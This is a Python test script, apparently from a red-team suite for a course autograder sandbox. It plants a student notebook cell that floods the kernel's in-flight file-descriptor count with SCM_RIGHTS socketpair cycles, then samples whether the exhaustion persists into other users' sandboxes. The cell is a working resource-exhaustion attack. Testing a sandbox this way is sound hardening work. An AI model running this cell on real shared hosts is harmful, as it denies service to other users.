"""a08: a05's in-flight descriptors made to outlive the kernel's own sockets: each socketpair's receiving end is
sent into its own queue (a cycle only the unix garbage collector frees), every descriptor then closed, and the kernel
goes on (sleeps 20 s), then the notebook ends. Does the user's in-flight count stay up after the close, or after
the sandbox ends (the next student's kernel request, zygote.request_kernel, passes descriptors)? Host sampler as a05."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
cell = sol(A, "training_memory") + r'''
import socket, os, time
n, err, pairs = 0, None, []
fd = os.open("/dev/null", os.O_RDONLY)
try:
    while n < 100000:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        pairs.append((a, b))
        socket.send_fds(a, [b"y"], [b.fileno(), a.fileno()]); n += 2
        for _ in range(8):
            socket.send_fds(a, [b"x"], [fd] * 253); n += 253
except OSError as e:
    err = f"{e.errno} {e.strerror}"
cyc = len(pairs)
for a, b in pairs: a.close(); b.close()
os.close(fd)
print("INFLIGHT", n, "stopped by", err, "cycles", cyc, "closed at", time.time(), flush=True)
time.sleep(20)
print("end of cell", time.time(), flush=True)
'''
d = make_course("a08", A, {"mallory": {"training_memory": cell}})
log = "/tmp/attack33-user-a08-sampler.txt"; open(log, "w").close(); os.chmod(log, 0o666)
samp = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                         PY, "tests/attacks/round33/user/scm_sampler.py", "150", log])
r, el = grade(d, A)
print("grading ended at", time.time())
time.sleep(10); samp.kill()
scores(d, A)
print("OUT mallory:", outputs(d, "mallory", A, "training_memory")[:400])
s = open(log).read().splitlines()
bad = [l for l in s if "ok" not in l]
print("SAMPLER rows:", len(s), "refused:", len(bad))
print("\n".join(s[:2] + ["..."] + bad[:2] + ["..."] + bad[-2:] + ["..."] + s[-2:]))
canary_scan(d)
